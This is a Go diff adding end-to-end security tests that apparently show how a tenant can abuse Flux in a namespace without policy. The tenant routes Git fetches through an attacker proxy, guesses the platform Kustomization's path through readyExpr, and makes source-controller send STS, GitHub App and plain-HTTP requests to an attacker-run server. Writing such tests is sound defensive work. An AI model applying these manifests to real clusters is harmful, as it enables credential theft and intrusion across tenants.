@@ -2,7 +2,11 @@ package e2e
 
 import (
 	"context"
+	"crypto/rand"
+	"crypto/rsa"
 	"crypto/sha256"
+	"crypto/x509"
+	"encoding/pem"
 	"fmt"
 	"slices"
 	"strings"
@@ -11,6 +15,7 @@ import (
 
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	"k8s.io/apimachinery/pkg/types"
 
 	"github.com/fleetwright/fleetwright/e2e/harness"
@@ -29,6 +34,8 @@ func (s *site) controls(t *testing.T) {
 	t.Run("proxy", s.proxied)
 	t.Run("deleted", s.deletedSource)
 	t.Run("privileged", s.privileged)
+	t.Run("read", s.readByExpression)
+	t.Run("asked", s.asked)
 }
 
 // put applies an object of the unprotected namespace, which the administrator brings.
@@ -45,15 +52,9 @@ func kustomizationOf(more string) string {
 		hourly+`prune: true, deletionPolicy: Orphan, targetNamespace: unprotected, sourceRef: {kind: GitRepository, name: web}, path: ./planted, `+more)
 }
 
-// gitOf makes a GitRepository of the address, with a token for it.
-func (s *site) gitOf(t *testing.T, name, url, more string) {
-	t.Helper()
-	s.fleet.Put(s.fleet.PlatformURL(), "main", map[string]string{
-		"planted/planted.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: planted}}",
-	})
-	s.gitSecret(t, unprotected, name, url)
-	s.put(t, name, fluxObject("source.toolkit.fluxcd.io/v1", "GitRepository",
-		hourly+fmt.Sprintf("url: %q, ref: {branch: main}, secretRef: {name: %s}, %s", url, name, more)))
+// watchedSource is a source that source-controller fetches.
+func watchedSource(kind, spec string) string {
+	return fluxObject("source.toolkit.fluxcd.io/v1", kind, hourly+spec)
 }
 
 // proxied lets source-controller fetch an allowed address from the attacker's server: through a
@@ -66,8 +67,7 @@ func (s *site) proxied(t *testing.T) {
 	harness.Seed(t, dir, map[string]string{"planted/planted.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: evil}}"})
 	s.secret(t, unprotected, "proxy", map[string][]byte{"address": []byte(evil.Proxy())})
 	s.secret(t, unprotected, "authority", map[string][]byte{"ca.crt": evil.Authority(), "username": []byte("git"), "password": []byte("any")})
-	s.put(t, "evil", fluxObject("source.toolkit.fluxcd.io/v1", "GitRepository",
-		hourly+fmt.Sprintf("url: %q, ref: {branch: main}, secretRef: {name: authority}, proxySecretRef: {name: proxy}", url)))
+	s.put(t, "evil", watchedSource("GitRepository", fmt.Sprintf("url: %q, ref: {branch: main}, secretRef: {name: authority}, proxySecretRef: {name: proxy}", url)))
 	s.put(t, "proxied", strings.Replace(kustomizationOf(""), "name: web", "name: evil", 1))
 	s.flux.Says(unprotected, "proxied", false, `configmaps "evil" is forbidden`)
 	s.proved(t, "where there is no policy, a proxy and an authority of the attacker's make Flux apply what an allowed address doesn't hold")
@@ -93,6 +93,49 @@ func (s *site) deletedSource(t *testing.T) {
 	_, err := sources.Patch(t.Context(), "held", types.MergePatchType, []byte(letGo), metav1.PatchOptions{})
 	must(t, err)
 	s.proved(t, "where there is no policy, the status of a source that is deleted makes Flux apply what the attacker serves")
+}
+
+// readByExpression reads the path of the platform's Kustomization with readyExpr, as the controller
+// (R3): one is ready to be built where the guess is right, and says that it waits where it is wrong.
+func (s *site) readByExpression(t *testing.T) {
+	remote := harness.StartRemote(t, map[string]string{"planted/planted.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: planted}}"})
+	s.put(t, "web", watchedSource("GitRepository", fmt.Sprintf("url: %q, ref: {branch: main}", remote.URL+"/base.git")))
+	platform, err := s.flux.Any.Resource(harness.Kustomizations).Namespace("flux-system").Get(t.Context(), "flux-system", metav1.GetOptions{})
+	must(t, err)
+	path, _, err := unstructured.NestedString(platform.Object, "spec", "path")
+	must(t, err)
+	for guess, says := range map[string]string{path: `configmaps "planted" is forbidden`, "./elsewhere": "is not ready according to readyExpr"} {
+		name := fmt.Sprintf("guess-%x", sha256.Sum256([]byte(guess)))[:20]
+		s.put(t, name, kustomizationOf(fmt.Sprintf("dependsOn: [{name: flux-system, namespace: flux-system, readyExpr: %q}]", "dep.spec.path == '"+guess+"'")))
+		s.flux.Says(unprotected, name, false, says)
+	}
+	s.proved(t, "where there is no policy, readyExpr says whether a guess about the platform's Kustomization is right")
+}
+
+// asked lets source-controller send requests to an address of the attacker's: for a Bucket's
+// credentials (S7), to the GitHub that a Secret names (S8), and without TLS (S9).
+func (s *site) asked(t *testing.T) {
+	remote := harness.StartRemote(t, map[string]string{"a": "a"})
+	host := strings.TrimPrefix(remote.URL, "http://")
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	must(t, err)
+	s.secret(t, unprotected, "app", map[string][]byte{
+		"githubAppID": []byte("1"), "githubAppInstallationID": []byte("1"), "githubAppBaseURL": []byte(remote.URL + "/github"),
+		"githubAppPrivateKey": pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)}),
+	})
+	s.secret(t, unprotected, "keys", map[string][]byte{"accesskey": []byte("a"), "secretkey": []byte("b")})
+	for name, c := range map[string]struct{ kind, spec, asks string }{
+		"sts":      {"Bucket", fmt.Sprintf("endpoint: %q, bucketName: any, insecure: true, sts: {provider: ldap, endpoint: %q}", host, remote.URL+"/sts"), "POST /sts"},
+		"provider": {"GitRepository", `url: "https://git.example.com/anybody/anything", provider: github, secretRef: {name: app}`, "/app/installations/1/access_tokens"},
+		"insecure": {"Bucket", fmt.Sprintf("endpoint: %q, bucketName: plain, insecure: true, secretRef: {name: keys}", host), "GET /plain/"},
+	} {
+		s.put(t, name, watchedSource(c.kind, c.spec))
+		harness.Eventually(t, patience, "source-controller asks for "+c.asks, func(context.Context) (bool, string) {
+			asked := remote.Asked()
+			return slices.ContainsFunc(asked, func(r string) bool { return strings.Contains(r, c.asks) }), strings.Join(asked, ", ")
+		})
+	}
+	s.proved(t, "where there is no policy, source-controller asks the attacker's address: for credentials, as a GitHub, and without TLS")
 }
 
 // privileged shows what a namespace lets pass that has no pod security level.
